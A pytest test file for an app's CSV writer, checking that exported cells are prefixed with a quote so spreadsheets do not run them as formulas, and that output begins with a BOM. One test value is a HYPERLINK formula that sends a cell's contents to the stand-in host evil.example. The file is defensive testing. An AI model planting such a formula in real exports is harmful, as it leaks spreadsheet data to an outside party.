"""The one way the app writes CSV: UTF-8 with a BOM for Excel, and no cell a spreadsheet would run as a formula."""

import csv
import io

import pytest

from privacydesk.core.csv import BOM, neutralise, spreadsheet_lines, spreadsheet_writer

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'


@pytest.mark.parametrize(
    "typed",
    [HYPERLINK, "+81312345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"],
)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_gets_a_quote_in_front(typed):
    assert neutralise(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["山田 太郎", "03-1234-5678", "2611-K7M3-9QXR", "a=b", "taro@example.com", "", 42])
def test_any_other_cell_is_written_as_it_is(typed):
    assert neutralise(typed) == str(typed)


def test_none_is_an_empty_cell():
    assert neutralise(None) == ""


def test_the_writer_starts_with_the_bom_and_neutralises_every_cell():
    stream = io.StringIO()
    writer = spreadsheet_writer(stream)
    writer.writerows([["名前", "住所"], [HYPERLINK, "東京都, 江東区"]])
    text = stream.getvalue()
    assert text.startswith(BOM) and text.count(BOM) == 1
    assert list(csv.reader(io.StringIO(text[1:]))) == [["名前", "住所"], ["'" + HYPERLINK, "東京都, 江東区"]]


def test_the_lines_for_a_streaming_response_start_with_the_bom_and_neutralise_every_cell():
    lines = list(spreadsheet_lines([["a"], ["@cmd", "ok"]]))
    assert lines[0] == BOM
    assert list(csv.reader(io.StringIO("".join(lines[1:])))) == [["a"], ["'@cmd", "ok"]]
